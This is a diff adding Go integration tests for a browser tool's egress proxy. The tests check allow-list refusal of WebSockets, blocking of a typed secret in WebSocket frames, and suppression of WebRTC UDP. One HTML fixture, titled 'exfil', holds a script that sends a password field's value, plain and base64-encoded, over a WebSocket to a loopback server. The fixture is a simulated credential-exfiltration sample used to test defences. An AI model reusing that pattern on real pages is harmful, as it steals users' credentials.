@@ -1,0 +1,234 @@
+package test
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+
+	"github.com/coder/websocket"
+
+	"github.com/durable-browser/durable-browser/contract"
+	"github.com/durable-browser/durable-browser/internal/redact"
+	"github.com/durable-browser/durable-browser/test/harness"
+	"github.com/durable-browser/durable-browser/workflows"
+)
+
+// wsCounter is a loopback WebSocket server that counts the handshakes that
+// reach it, by the Host the page asked for, and keeps the messages it got.
+type wsCounter struct {
+	srv   *httptest.Server
+	mu    sync.Mutex
+	hosts map[string]int
+	msgs  []string
+}
+
+func newWSCounter(t *testing.T) *wsCounter {
+	w := &wsCounter{hosts: map[string]int{}}
+	w.srv = httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+		// Counted when the handshake arrives, before it is answered.
+		w.mu.Lock()
+		w.hosts[strings.Split(r.Host, ":")[0]]++
+		w.mu.Unlock()
+		c, err := websocket.Accept(rw, r, &websocket.AcceptOptions{InsecureSkipVerify: true})
+		if err != nil {
+			return
+		}
+		defer c.CloseNow()
+		for {
+			_, b, err := c.Read(context.Background())
+			if err != nil {
+				return
+			}
+			w.mu.Lock()
+			w.msgs = append(w.msgs, string(b))
+			w.mu.Unlock()
+		}
+	}))
+	t.Cleanup(w.srv.Close)
+	return w
+}
+
+func (w *wsCounter) port() string { return w.srv.URL[strings.LastIndex(w.srv.URL, ":")+1:] }
+
+func (w *wsCounter) seen() (map[string]int, []string) {
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	h := map[string]int{}
+	for k, v := range w.hosts {
+		h[k] = v
+	}
+	return h, append([]string(nil), w.msgs...)
+}
+
+// pageServer serves one HTML page on 127.0.0.1.
+func pageServer(t *testing.T, html string) string {
+	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		fmt.Fprint(w, html)
+	}))
+	t.Cleanup(s.Close)
+	return s.URL
+}
+
+// A page opening a WebSocket to a host its session's allow_hosts refuses
+// is stopped at the worker's egress proxy: the server never sees the
+// connection, while one to an allowed host goes through. One to the
+// worker's own Temporal frontend is refused whatever the lists say.
+func TestEgressRefusesWebSocketOffAllowList(t *testing.T) {
+	ws := newWSCounter(t)
+	temporal := env.Temporal.Address()
+	page := pageServer(t, `<!doctype html><title>ws</title><body><p id=s>start</p><script>
+const s = document.getElementById('s');
+function open(name, url) {
+  const w = new WebSocket(url);
+  w.onopen = () => { s.textContent += ' ' + name + ':open'; w.send(name); };
+  w.onerror = () => { s.textContent += ' ' + name + ':error'; };
+}
+open('off', 'ws://localhost:`+ws.port()+`/off');
+open('on', 'ws://127.0.0.1:`+ws.port()+`/on');
+open('svc', 'ws://`+temporal+`/');
+</script>`)
+	env.StartWorker(t, harness.WorkerOptions{})
+	s := newSession(t, workflows.SessionConfig{Session: contract.SessionOptions{AllowHosts: []string{"127.0.0.1"}}})
+	var res contract.RunResult
+	s.must("run", actions(
+		map[string]any{"op": "goto", "url": page + "/"},
+		// off:error when refused, off:open if it went through (the count
+		// below then fails, naming it).
+		map[string]any{"op": "wait", "text": "off:"},
+		map[string]any{"op": "wait", "text": "on:open"},
+		map[string]any{"op": "wait", "text": "svc:error"},
+	), &res)
+	hosts, _ := ws.seen()
+	if hosts["localhost"] != 0 {
+		t.Fatalf("the WebSocket to localhost (not on allow_hosts) reached the server %d times", hosts["localhost"])
+	}
+	if hosts["127.0.0.1"] != 1 {
+		t.Fatalf("the WebSocket to 127.0.0.1 (on allow_hosts) should connect once; hosts seen: %v", hosts)
+	}
+	// Listed: the page's two refused WebSockets, and nothing Chrome
+	// connects to on its own (update checks, sign-in), which the proxy
+	// refuses too.
+	want := map[string]string{"localhost:" + ws.port(): "allow_list", temporal: "service"}
+	for _, b := range res.Blocked {
+		if b.Method != "CONNECT" || want[b.Origin] != b.Rule {
+			t.Fatalf("blocked %+v, want the WebSockets %v", res.Blocked, want)
+		}
+		delete(want, b.Origin)
+	}
+	if len(want) != 0 {
+		t.Fatalf("not listed as blocked: %v (blocked: %+v)", want, res.Blocked)
+	}
+	s.must("browser_release", map[string]any{}, nil)
+}
+
+// Once a secret was typed, a WebSocket frame carrying it toward an origin
+// the secret is not bound to is stopped before it leaves; frames without
+// it go on.
+func TestEgressBlocksSecretOverWebSocket(t *testing.T) {
+	const secret = "ws-Secret-Value-77421-xyzzy"
+	ws := newWSCounter(t)
+	page := pageServer(t, `<!doctype html><title>exfil</title><body>
+<label>Password <input type=password id=pw></label>
+<button id=go>Send</button><p id=s>start</p><script>
+const s = document.getElementById('s');
+const w = new WebSocket('ws://localhost:`+ws.port()+`/x');
+w.onopen = () => { w.send('hello'); s.textContent += ' open'; };
+w.onclose = () => { s.textContent += ' closed'; };
+document.getElementById('go').onclick = () => {
+  w.send('pw=' + document.getElementById('pw').value);
+  w.send(btoa(document.getElementById('pw').value));
+  s.textContent += ' sent';
+};
+</script>`)
+	t.Setenv("DURABLE_BROWSER_SECRET_WS_PW", secret)
+	t.Setenv("DURABLE_BROWSER_SECRET_WS_PW_ORIGINS", redact.OriginOf(page))
+	env.StartWorker(t, harness.WorkerOptions{})
+	s := newSession(t, workflows.SessionConfig{})
+	s.must("run", actions(
+		map[string]any{"op": "goto", "url": page + "/"},
+		map[string]any{"op": "wait", "text": "open"},
+	), nil)
+	var snap contract.SnapshotResult
+	s.must("snapshot", map[string]any{"mode": "interactive"}, &snap)
+	var res contract.RunResult
+	s.must("run", actions(
+		map[string]any{"op": "fill", "id": refFor(t, snap.Text, `textbox "Password"`), "value": "{{secret:WS_PW}}"},
+		map[string]any{"op": "click", "id": refFor(t, snap.Text, `button "Send"`)},
+		map[string]any{"op": "wait", "text": "closed"},
+	), &res)
+	hosts, msgs := ws.seen()
+	if hosts["localhost"] != 1 || len(msgs) == 0 || msgs[0] != "hello" {
+		t.Fatalf("the WebSocket should have opened and carried its first frame: hosts %v, %d messages", hosts, len(msgs))
+	}
+	for _, m := range msgs {
+		if strings.Contains(m, secret) || strings.Contains(m, "pw=") {
+			t.Fatalf("the server received a frame carrying the secret (%d bytes)", len(m))
+		}
+	}
+	found := false
+	for _, b := range res.Blocked {
+		found = found || (b.Rule == "secret" && b.Secret == "WS_PW" && b.Method == "WS" && b.Origin == "ws://localhost:"+ws.port())
+	}
+	if !found {
+		raw, _ := json.Marshal(res.Blocked)
+		t.Fatalf("the frame is not listed as blocked by rule secret: %s", raw)
+	}
+	s.must("browser_release", map[string]any{}, nil)
+}
+
+// WebRTC of a local browser sends no UDP: a page gathering ICE candidates
+// with a STUN server on loopback sends it nothing (without the egress
+// preferences Chromium 156 sends it binding requests at once).
+func TestEgressWebRTCSendsNoUDP(t *testing.T) {
+	uc, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { uc.Close() })
+	var packets atomic.Int32
+	go func() {
+		b := make([]byte, 1500)
+		for {
+			if _, _, err := uc.ReadFrom(b); err != nil {
+				return
+			}
+			packets.Add(1)
+		}
+	}()
+	port := uc.LocalAddr().(*net.UDPAddr).Port
+	page := pageServer(t, fmt.Sprintf(`<!doctype html><title>rtc</title><body><p id=s>start</p><script>
+const s = document.getElementById('s');
+const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%d'}]});
+pc.createDataChannel('d');
+let n = 0;
+// A candidate at all says UDP is on: shown at once, so the test fails on it
+// rather than waiting out STUN's retries.
+pc.onicecandidate = e => { if (e.candidate) { n++; s.textContent = 'gathered ' + n; } };
+pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === 'complete') s.textContent = 'gathered ' + n; };
+pc.createOffer().then(o => pc.setLocalDescription(o));
+</script>`, port))
+	env.StartWorker(t, harness.WorkerOptions{})
+	s := newSession(t, workflows.SessionConfig{})
+	var res contract.RunResult
+	s.must("run", actions(
+		map[string]any{"op": "goto", "url": page + "/"},
+		map[string]any{"op": "wait", "text": "gathered"},
+	), &res)
+	var snap contract.SnapshotResult
+	s.must("snapshot", map[string]any{}, &snap)
+	if n := packets.Load(); n != 0 {
+		t.Fatalf("the STUN server on loopback received %d UDP packets", n)
+	}
+	if !strings.Contains(snap.Text, "gathered 0") {
+		t.Fatalf("the page gathered ICE candidates (UDP is not off):\n%s", snap.Text)
+	}
+	s.must("browser_release", map[string]any{}, nil)
+}
